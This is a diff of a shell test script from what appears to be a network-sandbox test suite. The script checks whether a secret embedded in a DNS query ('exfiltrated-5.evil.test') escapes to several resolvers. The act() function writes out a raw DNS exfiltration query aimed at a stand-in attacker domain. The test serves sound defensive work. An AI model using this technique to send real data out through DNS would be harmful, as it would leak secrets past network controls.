@@ -2,14 +2,6 @@
 # net.dns, hazard 51: a secret in questions to every resolver there is.
 # run: --net filtered --allow allowed.test
 # plant: namespaces.net
-prepare() {
-	prepare_internet
-}
-
-launch() {
-	launch_in_internet "$@"
-}
-
 act() {
 	printf '\022\064\001\000\000\001\000\000\000\000\000\000\015exfiltrated-5\004evil\004test\000\000\001\000\001' >question
 	for server in 198.18.0.1 127.0.0.53 127.0.0.1 8.8.8.8 20.1.1.1; do
@@ -25,4 +17,4 @@ happened() {
 	heard exfiltrated-5
 }
 
-. "$VERIFY/attempt.sh"
+. "$VERIFY/internet.sh"
